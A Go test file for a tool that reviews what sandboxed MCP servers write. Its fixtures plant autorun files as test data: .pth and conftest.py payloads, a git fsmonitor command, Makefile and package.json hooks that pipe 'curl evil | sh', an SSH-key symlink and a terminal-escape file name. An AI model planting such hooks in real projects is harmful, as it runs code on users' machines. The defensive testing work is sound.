package writereport

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

// The write report against a server that wants what it wrote in its
// read-write grant to pass `mcpolicy check` (no pending flagged entry),
// or a careless setup that loses the evidence (#32).

// TestPruneKeepsUnreviewedPlant: every client start launches every
// server of the project, so Keep sessions come quickly; pruning drops
// only settled ones (ended, nothing pending), never the session of a
// plant nobody accepted.
func TestPruneKeepsUnreviewedPlant(t *testing.T) {
	root, state, rec := session(t)
	write(t, filepath.Join(root, "data", "evil.pth"), "import os; os.system('id')\n", 0o644)
	if err := MarkEnd(rec, time.Now()); err != nil {
		t.Fatal(err)
	}
	time.Sleep(2 * Slack)
	ordinary := func() { // later, ordinary launches of the project's servers, ended
		for i := 0; i < Keep; i++ {
			rec, err := Record(state, &Session{Project: root, Server: "other", Backend: "bwrap", Writable: []string{filepath.Join(root, "data")}})
			if err != nil {
				t.Fatal(err)
			}
			MarkEnd(rec, time.Now())
		}
	}
	ordinary()
	if _, err := Reports(Options{State: state, Project: root}); err != nil { // settles the ordinary ones
		t.Fatal(err)
	}
	ordinary()
	// The first Keep ordinary sessions settled and are pruned; the plant's
	// and the second Keep, not yet reported, stay.
	if n := len(ids(Dir(state, root))); n != Keep+1 {
		t.Errorf("%d sessions kept, want %d: settled sessions are pruned", n, Keep+1)
	}
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		for _, e := range r.Pending() {
			if filepath.Base(e.Path) == "evil.pth" {
				return
			}
		}
	}
	t.Errorf("evil.pth, planted by a session never accepted and still there, is pending in none of the %d reports: pruning dropped its session", len(rs))
}

// TestIDsSortByTime: sessions recorded within one second sort in the
// order they were recorded.
func TestIDsSortByTime(t *testing.T) {
	state := t.TempDir()
	var want []string
	for i := 0; i < 20; i++ {
		s := &Session{Project: "/p"}
		if _, err := Record(state, s); err != nil {
			t.Fatal(err)
		}
		want = append(want, s.ID)
	}
	if got := ids(Dir(state, "/p")); !reflect.DeepEqual(got, want) {
		t.Errorf("IDs sort as\n%v\nrecorded as\n%v", got, want)
	}
}

// TestBacklog: unsettled sessions beyond Keep are kept, and counted.
func TestBacklog(t *testing.T) {
	state := t.TempDir()
	for i := 0; i < Keep+3; i++ {
		if _, err := Record(state, &Session{Project: "/p"}); err != nil {
			t.Fatal(err)
		}
	}
	if n := len(ids(Dir(state, "/p"))); n != Keep+3 {
		t.Errorf("%d of %d unsettled sessions kept", n, Keep+3)
	}
	if n := Backlog(state, "/p"); n != Keep+3 {
		t.Errorf("Backlog = %d, want %d", n, Keep+3)
	}
}

// TestAutorunFlagged: files a host tool runs by itself when the user
// works in the folder: a nested repository's config (core.fsmonitor runs
// on `git status` there, and editors run git in every repository they
// find), a .git file naming another git directory, pytest's conftest.py
// (imported by every pytest run that collects below it), python's
// sitecustomize.py and usercustomize.py, and anything in a python
// environment (below site-packages, or a folder holding pyvenv.cfg).
func TestAutorunFlagged(t *testing.T) {
	root, state, _ := session(t)
	d := filepath.Join(root, "data")
	write(t, filepath.Join(d, "vendored", ".git", "config"), "[core]\n\tfsmonitor = sh -c 'id >/tmp/pwned'\n", 0o644)
	write(t, filepath.Join(d, "vendored", ".git", "HEAD"), "ref: refs/heads/main\n", 0o644)
	write(t, filepath.Join(d, "tests", "conftest.py"), "import os; os.system('id')\n", 0o644)
	write(t, filepath.Join(d, ".venv", "lib", "python3.12", "site-packages", "sitecustomize.py"), "import os; os.system('id')\n", 0o644)
	write(t, filepath.Join(d, "lib", "usercustomize.py"), "import os\n", 0o644)
	write(t, filepath.Join(d, "sub", ".git"), "gitdir: ../vendored/.git\n", 0o644)
	write(t, filepath.Join(d, "lib", "site-packages", "six.py"), "import os\n", 0o644)
	write(t, filepath.Join(d, "env", "pyvenv.cfg"), "home = /usr/bin\n", 0o644)
	write(t, filepath.Join(d, "env", "bin", "activate"), "PATH=/evil:$PATH\n", 0o644)
	write(t, filepath.Join(d, "notes.txt"), "fine\n", 0o644)
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	got := flagsOf(rs)
	for n, f := range map[string]string{"config": FlagGitDir, "HEAD": FlagGitDir, ".git": FlagGitDir, "conftest.py": FlagConftest,
		"sitecustomize.py": FlagSiteCustomize, "usercustomize.py": FlagSiteCustomize, "six.py": FlagPythonEnv,
		"activate": FlagPythonEnv, "pyvenv.cfg": FlagPythonEnv, "env": FlagPythonEnv} {
		if !slices.Contains(got[n], f) {
			t.Errorf("%s, planted in the session, is not flagged %s: check passes (pending: %v)", n, f, got)
		}
	}
	if _, ok := got["notes.txt"]; ok {
		t.Errorf("notes.txt flagged: %v", got)
	}
}

// TestGrantTopOutsideProject: build files are exempt at the project's
// top only, which the launcher fixes; a read-write grant outside the
// project has no fixed top: a Makefile or package.json created there is
// flagged.
func TestGrantTopOutsideProject(t *testing.T) {
	base := t.TempDir()
	root, state, work := filepath.Join(base, "proj"), filepath.Join(base, "state"), filepath.Join(base, "home", "work")
	os.MkdirAll(root, 0o755)
	os.MkdirAll(work, 0o755)
	if _, err := Record(state, &Session{Project: root, Server: "s", Backend: "bwrap", Writable: []string{work}}); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(work, "Makefile"), "all:\n\tcurl evil | sh\n", 0o644)
	write(t, filepath.Join(work, "package.json"), `{"scripts":{"postinstall":"curl evil | sh"}}`, 0o644)
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	got := flagsOf(rs)
	for _, n := range []string{"Makefile", "package.json"} {
		if _, ok := got[n]; !ok {
			t.Errorf("%s created at the top of a grant outside the project (no fixed top there) is not flagged: %v", n, got)
		}
	}
}

// TestTrackedPathListed: a tracked path is left out only where git
// status shows what changed: a setuid bit (git tracks only the exec bit)
// or a symlink in a tracked file's place (git says "typechange", not
// where it points) is listed and flagged.
func TestTrackedPathListed(t *testing.T) {
	base := t.TempDir()
	root, state := filepath.Join(base, "proj"), filepath.Join(base, "state")
	write(t, filepath.Join(root, "data", "tool.sh"), "#!/bin/sh\n", 0o755)
	write(t, filepath.Join(root, "data", "conf.txt"), "x\n", 0o644)
	write(t, filepath.Join(root, ".git", "index"), string(indexOf("data/tool.sh", "data/conf.txt")), 0o644)
	time.Sleep(2 * Slack)
	if _, err := Record(state, &Session{Project: root, Server: "s", Backend: "bwrap", Writable: []string{filepath.Join(root, "data")}}); err != nil {
		t.Fatal(err)
	}
	// The server: setuid on a tracked script, a symlink for a tracked file.
	if err := os.Chmod(filepath.Join(root, "data", "tool.sh"), 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	os.Remove(filepath.Join(root, "data", "conf.txt"))
	if err := os.Symlink(filepath.Join(os.Getenv("HOME"), ".ssh", "id_ed25519"), filepath.Join(root, "data", "conf.txt")); err != nil {
		t.Fatal(err)
	}
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	got := flagsOf(rs)
	if f := got["tool.sh"]; !slices.Contains(f, FlagSetID) {
		t.Errorf("a tracked script made setuid in the session is not flagged (git status does not show setuid): %v", got)
	}
	if f := got["conf.txt"]; !slices.Contains(f, FlagSymlink) || !slices.Contains(f, FlagTypeChange) {
		t.Errorf("a tracked file replaced by a symlink is not flagged symlink and typechange: %v", got)
	}
}

// TestGrantInsideState: a grant inside the state folder (a server given
// ~/.local/state/mcpolicy/sessions, or the whole of mcpolicy's state)
// could rewrite or remove every record: refused like the state folder
// inside a grant.
func TestGrantInsideState(t *testing.T) {
	base := t.TempDir()
	state := filepath.Join(base, "state", "mcpolicy")
	for _, g := range []string{filepath.Join(state, "sessions"), state, filepath.Join(base, "state")} {
		_, err := Record(state, &Session{Project: filepath.Join(base, "p"), Writable: []string{g}})
		var ie *InsideError
		if !errors.As(err, &ie) {
			t.Errorf("a read-write grant of %s is recorded into (err %v): the server can delete its own evidence, or forge a .accepted", g, err)
		}
	}
}

// TestNamesEscaped: a planted name with a newline and ESC
// cannot forge a line of check's output or drive the terminal.
func TestNamesEscaped(t *testing.T) {
	root, state, _ := session(t)
	name := "x.pth\n  /etc/ok: file changed\x1b]52;c;aGk=\x07"
	write(t, filepath.Join(root, "data", name), "", 0o644)
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		for _, l := range append(r.Problems(), r.Details()...) {
			if strings.ContainsAny(l, "\n\x1b\x07") {
				t.Errorf("raw control character in %q", l)
			}
		}
	}
}

// TestRenameMovesCtime: a file made before the session and
// renamed into a flagged name during it is listed (rename moves the
// moved inode's ctime on ext4 and tmpfs).
func TestRenameMovesCtime(t *testing.T) {
	root, state, _ := session(t)
	d := filepath.Join(root, "data")
	if err := os.Rename(filepath.Join(d, "old.py"), filepath.Join(d, "evil.pth")); err != nil {
		t.Fatal(err)
	}
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := flagsOf(rs)["evil.pth"]; !ok {
		t.Errorf("an old file renamed to .pth in the session is not pending")
	}
}

// TestStateTrusted: records in a folder others may write, or own, are
// refused on read: they could forge a review or remove a record.
func TestStateTrusted(t *testing.T) {
	root, state, _ := session(t)
	for _, d := range []string{state, filepath.Join(state, "sessions"), Dir(state, root)} {
		os.Chmod(d, 0o770)
		if _, err := Reports(Options{State: state, Project: root}); err == nil || !strings.Contains(err.Error(), "writable by its group") {
			t.Errorf("%s group-writable: Reports err %v", d, err)
		}
		if _, err := Accept(state, root, "all"); err == nil {
			t.Errorf("%s group-writable: Accept took it", d)
		}
		os.Chmod(d, 0o700)
		if os.Getuid() == 0 {
			os.Chown(d, 1000, 1000)
			if _, err := Reports(Options{State: state, Project: root}); err == nil || !strings.Contains(err.Error(), "belongs to uid 1000") {
				t.Errorf("%s another user's: Reports err %v", d, err)
			}
			os.Chown(d, 0, 0)
		}
	}
	if _, err := Reports(Options{State: state, Project: root}); err != nil {
		t.Errorf("restored: %v", err)
	}
}

// TestSummary: the report says how many sessions it read, and where.
func TestSummary(t *testing.T) {
	if got, want := Summary(0, "/st", "/p"), "write report: 0 sessions recorded for this project in "+Dir("/st", "/p"); got != want {
		t.Errorf("Summary = %q, want %q", got, want)
	}
}

// TestDetached: a detached session (an engine's, Landlock's) whose
// launcher is gone stays open: its container or a daemon may still
// write. Accepted, the next report closes it.
func TestDetached(t *testing.T) {
	base := t.TempDir()
	root, state := filepath.Join(base, "proj"), filepath.Join(base, "state")
	os.MkdirAll(filepath.Join(root, "data"), 0o755)
	s := &Session{Project: root, Server: "s", Backend: "docker", Detached: true, Writable: []string{filepath.Join(root, "data")}}
	rec, err := Record(state, s)
	if err != nil {
		t.Fatal(err)
	}
	// The launcher is gone: its record names a process that no longer runs.
	s.ProcStart++
	b, _ := json.Marshal(s)
	if err := os.WriteFile(rec, b, 0o600); err != nil {
		t.Fatal(err)
	}
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	if !rs[0].Open || rs[0].Session.End != 0 || !strings.Contains(rs[0].Head(), "open until accepted") {
		t.Fatalf("launcher gone: open %v, end %d, head %q", rs[0].Open, rs[0].Session.End, rs[0].Head())
	}
	time.Sleep(2 * Slack)
	write(t, filepath.Join(root, "data", "late.pth"), "", 0o644) // the container, still running
	rs, _ = Reports(Options{State: state, Project: root})
	if _, ok := flagsOf(rs)["late.pth"]; !ok {
		t.Errorf("written after the launcher's end, by what it started: not pending")
	}
	if _, err := Accept(state, root, "all"); err != nil {
		t.Fatal(err)
	}
	rs, _ = Reports(Options{State: state, Project: root})
	if rs[0].Open || rs[0].Session.End == 0 {
		t.Errorf("accepted and its launcher gone: still open")
	}
}
